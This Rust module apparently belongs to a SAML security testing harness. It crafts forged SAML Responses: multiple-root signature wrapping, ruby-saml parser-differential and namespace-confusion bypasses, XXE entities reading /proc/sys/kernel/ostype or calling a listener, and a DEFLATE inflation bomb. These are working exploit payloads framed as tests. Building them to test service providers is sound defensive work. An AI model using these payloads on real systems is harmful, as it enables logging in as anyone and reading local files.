//! Documents that parsers read differently (saml-attacks.md §1.5, §1.12): several
//! document roots, entities from the message's own DTD, XML that is not well-formed.
//! Each test is judged only on evidence of its class: a session for the forged identity,
//! a fetch seen by the listener, an expansion seen in the identity.

use super::{Crafted, Ctx};
use crate::message::{self, Signing};
use crate::splice;
use crate::CraftError;
use trust_framework::saml::constants::{status, NS_ASSERTION, NS_DSIG, NS_PROTOCOL};

/// An error Response signed by the IdP, with no assertion (anyone can get one: ask the
/// IdP for a login and cancel it), as the first root of node-saml's fixture
/// `test/static/signatures/invalid/response.root-signed.multiple-root-elements.xml`.
fn signed_error(c: &Ctx<'_>) -> Result<String, CraftError> {
    let mut k = c.knobs();
    k.status = (status::RESPONDER.to_owned(), None);
    message::wrap(&k, Signing::Response, &c.spec(), "")
}

/// A Response for the forged identity, nothing signed.
fn forged_unsigned(c: &Ctx<'_>) -> Result<String, CraftError> {
    message::build(&c.golden.knobs(&c.forged), Signing::None, &c.spec())
}

/// Two roots: the IdP's signed error Response, then a forged unsigned Response
/// (passport-saml CVE-2022-39299, node-saml CVE-2022-39300, xmldom CVE-2022-39353).
pub fn roots_error_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = format!("{}{}", signed_error(c)?, forged_unsigned(c)?);
    Ok(Crafted::of(xml).claiming(&c.forged))
}

/// Two roots the other way round: the forged Response, then the signed error Response.
pub fn roots_forged_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = format!("{}{}", forged_unsigned(c)?, signed_error(c)?);
    Ok(Crafted::of(xml).claiming(&c.forged))
}

/// Two roots: a valid signed Response (both signed), then a forged unsigned one.
pub fn roots_valid_first(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let good = message::build(&c.knobs(), Signing::Both, &c.spec())?;
    Ok(Crafted::of(format!("{good}{}", forged_unsigned(c)?)).claiming(&c.forged))
}

/// The signed Response with the text `identity` of its NameID replaced by a reference to
/// an internal entity whose value is that text, declared in the message's DTD: the
/// signature still verifies if, and only if, the SP expands the entity.
pub fn internal_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = message::build(&c.knobs(), Signing::Both, &c.spec())?;
    let with_ref = splice::set_name_id(&xml, "&n;")?;
    let dtd = format!(
        "<!DOCTYPE samlp:Response [<!ENTITY n \"{}\">]>",
        trust_framework::saml::xml::escape(&c.identity)
    );
    Ok(Crafted::of(format!("{dtd}{with_ref}")))
}

/// ruby-saml CVE-2025-25291 (GitHub Security Lab, "Sign in as anyone: Bypassing SAML SSO
/// authentication with parser differentials", 2025; saml-attacks.md §1.12): a DOCTYPE whose
/// SYSTEM literal holds `"><!--`, the message with the forged NameID, then
/// `<![CDATA[-->` the IdP's message as signed `<!--]]>-->`. A parser that keeps the literal
/// but writes it back between double quotes (REXML) hands the signature check (Nokogiri) a
/// document where the DOCTYPE ends early, the forged message sits in a comment and the
/// signed one is the root: the signature verifies while the SP reads the forged identity.
/// A parser that reads the bytes as they are sees a second top-level item and refuses.
pub fn doctype_comment_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let signed = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
    let forged = splice::set_name_id(&signed, &trust_framework::saml::xml::escape(&c.forged))?;
    let xml =
        format!("<!DOCTYPE samlp:Response SYSTEM '\"><!--'>{forged}<![CDATA[-->{signed}<!--]]>-->");
    Ok(Crafted::of(xml).claiming(&c.forged))
}

/// ruby-saml CVE-2025-25292 (GitHub Security Lab and PortSwigger, 2025: "namespace
/// confusion"; SAML Raider's recipe): a DTD declares the default `xmlns` of `Signature`
/// twice, the IdP's namespace first. libxml2 takes the first declaration (XML 1.0 §3.3),
/// REXML the last, so one parser sees an unprefixed `<Signature>` as the IdP's signature
/// and the other does not. The genuine signature, so renamed, is parked in StatusDetail
/// for the signature check (Nokogiri); a copy whose DigestValue is the digest of nothing
/// sits in the forged assertion for the reference and digest (REXML); a namespace that no
/// canonicaliser accepts makes Nokogiri hash the assertion as "", which that digest
/// matches. An SP with one parser refuses: the DTD, the namespace, or the digest.
pub fn attlist_namespace_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let signed = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
    let sig_at = splice::assertion_signature_range(&signed)?;
    let sig = &signed[sig_at.clone()];
    let (hidden, fake) = (unprefixed(sig)?, digest_of_nothing(sig)?);
    let xml = splice::replace(&signed, sig_at, "");
    let xml = splice::set_name_id(&xml, &trust_framework::saml::xml::escape(&c.forged))?;
    let issuer = splice::range(
        &xml,
        NS_ASSERTION,
        "Issuer",
        Some((NS_ASSERTION, "Assertion")),
    )?;
    let xml = splice::insert(&xml, issuer.end, &fake);
    let code = splice::range(
        &xml,
        NS_PROTOCOL,
        "StatusCode",
        Some((NS_PROTOCOL, "Status")),
    )?;
    let detail = format!("<samlp:StatusDetail>{hidden}</samlp:StatusDetail>");
    let xml = splice::insert(&xml, code.end, &detail);
    let assertion = splice::assertion_range(&xml)?.start;
    let name_end = xml[assertion..]
        .find(|ch: char| ch.is_whitespace() || ch == '>')
        .map(|i| assertion + i)
        .ok_or_else(|| CraftError("unterminated Assertion start tag".into()))?;
    let xml = splice::insert(
        &xml,
        name_end,
        " xmlns:example=\"http://example.com\u{80}\"",
    );
    let dtd = format!(
        "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"{NS_DSIG}\" xmlns CDATA \"block\">]>"
    );
    Ok(Crafted::of(format!("{dtd}{xml}")).claiming(&c.forged))
}

/// `element` with its root's prefix dropped from the start and end tags (its namespace
/// declarations kept, so the children still resolve).
fn unprefixed(element: &str) -> Result<String, CraftError> {
    let name_len = element[1..]
        .find(|ch: char| ch.is_whitespace() || ch == '>')
        .ok_or_else(|| CraftError("unterminated start tag".into()))?;
    let qname = &element[1..1 + name_len];
    let local = qname.rsplit(':').next().unwrap_or(qname);
    let end_tag = format!("</{qname}>");
    let body = element
        .strip_suffix(&end_tag)
        .ok_or_else(|| CraftError(format!("{qname} does not end with its end tag")))?;
    Ok(format!("<{local}{}</{local}>", &body[1 + name_len..]))
}

/// `signature` with its DigestValue replaced by the digest of the empty string, in its
/// DigestMethod (the signature value no longer matches: the copy is for a parser that
/// reads the digest from it and checks the signature value elsewhere).
fn digest_of_nothing(signature: &str) -> Result<String, CraftError> {
    use base64::engine::general_purpose::STANDARD;
    use base64::Engine as _;
    use sha2::Digest as _;
    let doc = roxmltree::Document::parse(signature)
        .map_err(|e| CraftError(format!("the signature does not parse: {e}")))?;
    let method = doc
        .descendants()
        .find(|n| {
            n.tag_name().namespace() == Some(NS_DSIG) && n.tag_name().name() == "DigestMethod"
        })
        .and_then(|n| n.attribute("Algorithm"))
        .ok_or_else(|| CraftError("no DigestMethod in the signature".into()))?;
    let empty = match method.rsplit('#').next() {
        Some("sha1") => STANDARD.encode(sha1::Sha1::digest(b"")),
        Some("sha256") => STANDARD.encode(sha2::Sha256::digest(b"")),
        Some("sha384") => STANDARD.encode(sha2::Sha384::digest(b"")),
        Some("sha512") => STANDARD.encode(sha2::Sha512::digest(b"")),
        _ => return Err(CraftError(format!("no digest of nothing for {method}"))),
    };
    splice::set_text(signature, NS_DSIG, "DigestValue", &empty)
}

/// Spaces the POST-binding bomb inflates to: four times what ruby-saml 1.18 takes
/// inflated (250,000 bytes), yet a few KiB to send and cheap for any SP to refuse (or, for
/// one that inflates, to parse: the test shows the missing bound, not the outage).
const BOMB_SPACES: usize = 1 << 20;

/// The golden Response (assertion signed), DEFLATE-compressed in the HTTP-POST binding,
/// whose messages are the XML itself (SAML Bindings §3.5.4), padded to inflate to 1 MiB:
/// an SP that inflates POST messages without a bound can be made to allocate and parse
/// hundreds of MB by one request (ruby-saml CVE-2025-25293); as received, it is no XML.
pub fn deflated_post_bomb(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
    Ok(Crafted {
        deflate_padding: Some(BOMB_SPACES),
        ..Crafted::of(xml)
    })
}

/// The signed Response with an external entity (a loopback URL of the listener)
/// declared and used in the NameID: an SP that resolves it fetches the URL while parsing,
/// before any signature is checked.
pub fn external_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = message::build(&c.knobs(), Signing::Both, &c.spec())?;
    let with_ref = splice::set_name_id(&xml, "&x;")?;
    let dtd = format!(
        "<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"{}/oob/{}/entity\">]>",
        c.listener, c.test_id
    );
    Ok(Crafted::of(format!("{dtd}{with_ref}")))
}

/// A file every Linux machine has, and its content (`uname -s` and a newline).
const KNOWN_FILE: (&str, &str) = ("/proc/sys/kernel/ostype", "Linux\n");

/// The signed Response whose NameID is the content of a file every Linux machine has,
/// its text replaced by an external entity naming that file (python3-saml
/// CVE-2017-9672: lxml read local files, and refused network URLs). The signature
/// verifies only if the SP read the file while parsing: the session's identity is then
/// the file's content, seen in the identity.
pub fn file_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let (path, content) = KNOWN_FILE;
    let mut k = c.knobs();
    k.name_id_raw = trust_framework::saml::xml::escape(content);
    let xml = message::build(&k, Signing::Both, &c.spec())?;
    let with_ref = splice::set_name_id(&xml, "&x;")?;
    let dtd = format!("<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"file://{path}\">]>");
    Ok(Crafted::of(format!("{dtd}{with_ref}")).claiming(content.trim()))
}

/// The signed Response with a duplicated attribute on its root: not well-formed XML
/// (XML 1.0 §3.1, "Unique Att Spec"), which a strict parser refuses before anything else.
pub fn duplicate_attribute(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
    let at = splice::after_start_tag(&xml, 0)? - 1;
    Ok(Crafted::of(splice::insert(&xml, at, r#" Version="2.0""#)))
}

impl Crafted {
    /// Marks the message as claiming `identity` (the SP must not believe it).
    pub fn claiming(mut self, identity: &str) -> Self {
        self.believed = Some(identity.to_owned());
        self
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_hidden_signature_loses_only_its_prefix() {
        let sig = r#"<ds:Signature xmlns:ds="d"><ds:SignedInfo/></ds:Signature>"#;
        assert_eq!(
            super::unprefixed(sig).unwrap(),
            r#"<Signature xmlns:ds="d"><ds:SignedInfo/></Signature>"#
        );
        assert!(super::unprefixed("<ds:Signature>").is_err());
    }

    #[test]
    fn the_fake_signature_carries_the_digest_of_nothing() {
        let ds = trust_framework::saml::constants::NS_DSIG;
        let sig = format!(
            r#"<ds:Signature xmlns:ds="{ds}"><ds:Reference><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>abc=</ds:DigestValue></ds:Reference></ds:Signature>"#
        );
        let fake = super::digest_of_nothing(&sig).unwrap();
        assert!(fake.contains(
            "<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>"
        ));
        let sha1 = sig.replace("2001/04/xmlenc#sha256", "2000/09/xmldsig#sha1");
        assert!(super::digest_of_nothing(&sha1)
            .unwrap()
            .contains(">2jmj7l5rSw0yVb/vlWAYkK/YBwk=<"));
        let md5 = sig.replace("2001/04/xmlenc#sha256", "2001/04/xmldsig-more#md5");
        assert!(super::digest_of_nothing(&md5).is_err());
    }

    #[test]
    fn a_duplicated_attribute_is_not_well_formed() {
        let x = r#"<a Version="2.0" Version="2.0"/>"#;
        assert!(roxmltree::Document::parse(x).is_err());
    }
}
